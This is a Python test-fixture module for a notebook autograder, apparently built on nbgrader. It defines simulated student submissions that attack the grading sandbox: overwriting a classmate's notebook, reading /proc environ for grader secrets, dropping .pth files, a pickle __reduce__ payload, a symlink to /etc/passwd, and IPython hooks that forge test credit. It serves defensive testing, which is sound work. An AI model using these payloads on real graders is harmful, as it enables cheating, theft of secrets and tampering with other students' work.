def sandbox_cases(*, course_dir: Path, assignment: str, port: int, marker: str, host_site_folders: list[str],
                  secret_names: list[str], daemon_delay: float = 5.0) -> tuple[Case, ...]:
    """The attacks of issue 10 (catalogue cases 29 and 30) as one-notebook submissions.

    ``course_dir``: the host path the attacks aim at (a student can guess it); ``port``: a
    listener of the test on 127.0.0.1; ``marker``: names the .pth file and the daemon process;
    ``secret_names``: grader variables the environment attack looks for.
    """
    course = str(course_dir)
    lost = {"00/test_imbalance_ratio": "the attack failed in the sandbox: imbalance_ratio stays wrong"}

    def attacking(student: str, description: str, attack: str, catalogue: tuple[int, ...]) -> Case:
        return Case(student, description, ("00",), mutations=(attack_for_points("00", "imbalance_ratio", attack),),
                    lost=lost, limits=SANDBOXED, catalogue=catalogue)

    daemon = DAEMON_START.format(code=DAEMON_CODE.format(delay=daemon_delay, course=course), marker=marker)
    return (
        attacking("copysource", "copies the course's source/ notebooks over its own submission",
                  COPY_SOURCE_ATTACK.format(course=course, assignment=assignment, student="copysource"), (29,)),
        attacking("overwriter", "overwrites a classmate's submitted notebook",
                  OVERWRITE_CLASSMATE_ATTACK.format(course=course, assignment=assignment, victim="victim"), (29,)),
        attacking("pthdrop", "drops a .pth file into every site-packages folder it can find",
                  PTH_ATTACK.format(host_folders=list(host_site_folders), marker=marker), (29,)),
        attacking("tcpconnect", "connects to a listener on 127.0.0.1", TCP_ATTACK.format(port=port), (30,)),
        attacking("readenviron", "reads /proc/<ppid>/environ and every /proc/*/environ for grader variables",
                  ENVIRON_ATTACK.format(names=list(secret_names)), (30,)),
        attacking("importsolutions", "imports the reference solutions", IMPORT_SOLUTIONS_ATTACK, (29,)),
        Case("daemon", "the reference, plus a detached double-forked daemon that writes into the course later",
             ("00",), mutations=(append_source("00", "imbalance_ratio", daemon),), limits=SANDBOXED, catalogue=(30,)),
        Case("victim", "an honest reference graded after the overwriter", ("00",), limits=SANDBOXED),
    )


# The limits group of the sandbox cases: graded in their own autograde call, sandboxed only.
SANDBOXED = "sandboxed"


# ---------------------------------------------------------------------------------------------
# Attacks on the verdict itself (issue 10 item 2), graded in the sandboxed pipeline
# (tests/grading/test_verdict_grading.py). Each case's imbalance_ratio is wrong, and its cell also
# forges what nbgrader reads from the test cell's outputs (an execute_result, no error at all) or
# what the verdict stage might read: an attack that worked would earn test_imbalance_ratio.

WRONG_RATIO = '''
def imbalance_ratio(counts):
    """Return the imbalance ratio (wrong: always 1)."""
    return 1.0
'''

# A pre_run_cell hook that publishes the number 1 as the test cell's execute_result, before the
# cell fails: nbgrader takes the first execute_result of a test cell as its partial credit.
HOOK_CREDIT_ATTACK = '''

def _forge_partial_credit(info):
    if "Vérifie que imbalance_ratio" in (info.raw_cell or ""):
        get_ipython().displayhook(1)


get_ipython().events.register("pre_run_cell", _forge_partial_credit)
'''

# A thread that keeps installing a custom exception handler that swallows every failure, so that
# the integrity guard's reset before the test cell is undone at once.
CUSTOM_EXC_ATTACK = '''

import threading as _threading
import time as _time


def _swallow(shell, kind, value, traceback, tb_offset=None):
    return None


def _keep_swallowing():
    while True:
        get_ipython().set_custom_exc((Exception,), _swallow)
        _time.sleep(0.0005)


_threading.Thread(target=_keep_swallowing, daemon=True).start()
'''

# A thread that keeps installing an input transformer that turns the test cell into `pass`.
TRANSFORMER_ATTACK = '''

import threading as _threading
import time as _time


def _blank_the_test(lines):
    return ["pass\\n"] if "Vérifie que imbalance_ratio" in "".join(lines) else lines


def _keep_transforming():
    while True:
        transformers = get_ipython().input_transformers_post
        if _blank_the_test not in transformers:
            transformers.append(_blank_the_test)
        _time.sleep(0.0005)


_threading.Thread(target=_keep_transforming, daemon=True).start()
'''

# Files planted where the verdict stage might look: verdict files, a pickled export whose
# unpickling would create ``marker`` on the grader's machine, a link to a host file.
FORGED_EXPORT_ATTACK = '''

import json as _json
import os as _os
import pathlib as _pathlib

import numpy as _np


class _RunsWhenUnpickled:
    def __reduce__(self):
        return __import__("io").open, ({marker!r}, "w")


_export = _pathlib.Path(_os.environ["PAYSAGES_EXPORT_DIR"])
_forged = {{"verdicts": {{"test_imbalance_ratio": {{"fraction": 1.0, "reason": "forged"}}}}}}
for _folder in (_export, _pathlib.Path.cwd(), _pathlib.Path(_os.environ["PAYSAGES_RUN_DIR"])):
    for _name in ("verdicts.json", "00_prise_en_main.verdicts.json"):
        (_folder / _name).write_text(_json.dumps(_forged))
with open(_export / "test_imbalance_ratio.npz", "wb") as _handle:
    _np.savez(_handle, results=_np.array([_RunsWhenUnpickled()], dtype=object))
_os.symlink("/etc/passwd", _export / "test_imbalance_ratio.json")
# Every notebook is judged outside the kernel: the reference solutions are never bound in a sandbox.
print("reference solutions readable:", _os.path.exists("/opt/paysages/reference/solutions/separation.py"))
'''


# A stratified split with the complement of the fraction (80 % of each class in validation), and
# a pre_run_cell hook that publishes the cell's 2 points as test_stratified_split's execute_result.
WRONG_RATIO_SPLIT_WITH_HOOK = '''
def stratified_split(labels, validation_fraction, seed):
    """Split image indices (wrong: the validation subset gets 1 - validation_fraction of each class)."""
    labels = np.asarray(labels)
    if not 0.0 < validation_fraction < 1.0:
        raise ValueError("validation_fraction must lie in (0, 1).")
    rng = np.random.default_rng(seed)
    validation = []
    for label in np.unique(labels):
        members = np.flatnonzero(labels == label)
        members = members[rng.permutation(len(members))]
        validation.extend(members[:round(len(members) * (1.0 - validation_fraction))].tolist())
    validation = np.sort(np.asarray(validation, dtype=np.int64))
    return np.setdiff1d(np.arange(len(labels)), validation), validation


def _forge_split_credit(info):
    if "Vérifie que stratified_split" in (info.raw_cell or ""):
        get_ipython().displayhook(2)


get_ipython().events.register("pre_run_cell", _forge_split_credit)
'''


def verdict_cases(*, marker_path: str) -> tuple[Case, ...]:
    """The attacks on the verdicts of notebooks 00 and 01, with the reference and the blank beside them.

    ``marker_path``: a path on the grader's machine that exists only if the grader unpickled a
    kernel's export.
    """
    lost = {"00/test_imbalance_ratio": "imbalance_ratio is wrong: the verdict computed outside the kernel is 0"}

    def forging(student: str, description: str, attack: str) -> Case:
        return Case(student, description, ("00",),
                    mutations=(replace_source("00", "imbalance_ratio", WRONG_RATIO.strip() + "\n" + attack),),
                    lost=lost, limits=SANDBOXED, catalogue=(27, 28))

    return (
        Case("verdictref", "the reference notebooks 00 and 01", ("00", "01"), limits=SANDBOXED),
        Case("verdictblank", "the release of notebook 00 as is", ("00",), blank=True,
             lost={"00/*": "the stubs raise NotImplementedError: nothing is exported"}, limits=SANDBOXED),
        forging("hookcredit", "a pre_run_cell hook that publishes 1 as the test cell's execute_result",
                HOOK_CREDIT_ATTACK),
        forging("customexc", "a thread that keeps installing a custom exception handler swallowing failures",
                CUSTOM_EXC_ATTACK),
        forging("transformer", "a thread that keeps installing an input transformer blanking the test cell",
                TRANSFORMER_ATTACK),
        forging("forgedexport", "verdict files, a pickled export and a link planted where the verdict stage reads",
                FORGED_EXPORT_ATTACK.format(marker=marker_path)),
        Case("hooksplit", "the reference 00, and in 01 a split with the wrong ratio whose test cell gets 2 from a "
             "pre_run_cell hook", ("00", "01"),
             mutations=(replace_source("01", "stratified_split", WRONG_RATIO_SPLIT_WITH_HOOK.strip() + "\n"),),
             lost={"01/test_stratified_split": "80 % of each class in validation: wrong ratio",
                   "01/test_split_file": "split.csv holds that split: not stratified"},
             limits=SANDBOXED, catalogue=(27,)),
    )
